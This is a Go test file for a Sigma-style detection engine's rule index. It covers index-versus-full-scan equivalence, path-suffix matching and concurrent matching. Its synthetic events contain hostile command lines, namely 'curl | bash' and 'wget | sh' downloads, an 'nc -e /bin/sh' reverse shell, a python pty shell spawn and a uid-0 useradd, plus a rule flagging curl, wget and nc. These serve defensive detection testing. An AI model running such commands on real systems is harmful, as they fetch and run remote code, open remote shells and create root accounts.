package sigma

import (
	"fmt"
	"math/rand"
	"testing"

	"github.com/warden-sec/warden/internal/events"
)

// TestIndexEquivalence: Set.Match (through the index) gives the same rules
// as testing every rule of the event's dataset.
func TestIndexEquivalence(t *testing.T) {
	rules := benchRules(t, 1000)
	s, err := Compile(rules, Config{})
	if err != nil {
		t.Fatal(err)
	}
	r := rand.New(rand.NewSource(3))
	exes := []string{"/usr/bin/curl", "/bin/nc", "/usr/bin/base64", "/usr/bin/python3", "/usr/bin/chmod", "/bin/bash", "/usr/bin/crontab", "/usr/sbin/useradd", "/usr/bin/wget", "/tmp/x", "/USR/BIN/CURL"}
	cmds := []string{"curl -s http://x | bash", "nc -e /bin/sh 10.0.0.1 4444", "base64 -d /tmp/p", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", "chmod +x /tmp/x", "crontab -l", "useradd -o -u 0 x", "wget http://x -O- | sh"}
	evs := randomStream(3000, 5)
	for i := 0; i < 3000; i++ {
		evs = append(evs, events.Event{
			"event.dataset":             []string{"linux.process_creation", "linux.auditd", "syslog"}[r.Intn(3)],
			"process.executable":        exes[r.Intn(len(exes))],
			"process.command_line":      cmds[r.Intn(len(cmds))],
			"process.parent.executable": exes[r.Intn(len(exes))],
			"message":                   cmds[r.Intn(len(cmds))],
			"type":                      []string{"EXECVE", "SYSCALL", "PATH"}[r.Intn(3)],
		})
	}
	var dst []*Rule
	total := 0
	for _, e := range evs {
		dst = s.Match(e, dst)
		got := map[*Rule]bool{}
		for _, x := range dst {
			if got[x] {
				t.Fatalf("rule %s twice", x.ID)
			}
			got[x] = true
		}
		ds, _ := e["event.dataset"].(string)
		for _, c := range s.rules {
			if c.m == nil {
				continue
			}
			applies := c.datasets == nil
			for _, d := range c.datasets {
				applies = applies || d == ds
			}
			want := applies && c.m.match(e)
			if want != got[c.r] {
				t.Fatalf("rule %s (%s): index says %v, full test says %v for %v", c.r.ID, c.r.Title, got[c.r], want, e)
			}
			if want {
				total++
			}
		}
	}
	if total < 100 {
		t.Errorf("only %d matches: the events do not exercise the rules", total)
	}
	t.Logf("%d events, %d matches", len(evs), total)
}

func TestIndexPathSuffix(t *testing.T) {
	s := compileOne(t, "  sel:\n    - Image|endswith: ['/curl', '/bin/wget']\n    - Image|endswith: /nc\n  condition: sel\n", Config{Mapping: DefaultMapping().Merge(testMapping)})
	b := s.index["test"]
	if b == nil || len(b.keyed) != 1 || !b.keyed[0].base || len(b.rest) != 0 {
		t.Fatalf("rule not indexed by path element: %+v", b)
	}
	for _, tc := range []struct {
		exe  string
		want int
	}{{"/usr/bin/curl", 1}, {"/USR/BIN/CURL", 1}, {"/usr/bin/wget", 1}, {"/opt/wget", 0}, {"/bin/nc", 1}, {"/usr/bin/xcurl", 0}, {"curl", 0}, {"/usr/bin/curl/", 0}} {
		if got := len(s.Match(ev("process.executable", tc.exe), nil)); got != tc.want {
			t.Errorf("%s: %d matches, want %d", tc.exe, got, tc.want)
		}
	}
}

// TestConcurrentMatch: a Set is used by many goroutines at once (run with
// -race).
func TestConcurrentMatch(t *testing.T) {
	s := builtinSet(t)
	evs := randomStream(500, 9)
	want := make([]int, len(evs))
	for i, e := range evs {
		want[i] = len(s.Match(e, nil))
	}
	done := make(chan error, 4)
	for g := 0; g < 4; g++ {
		go func() {
			var m []*Rule
			for i, e := range evs {
				if m = s.Match(e, m); len(m) != want[i] {
					done <- fmt.Errorf("event %d: %d matches, want %d", i, len(m), want[i])
					return
				}
			}
			done <- nil
		}()
	}
	for g := 0; g < 4; g++ {
		if err := <-done; err != nil {
			t.Error(err)
		}
	}
}
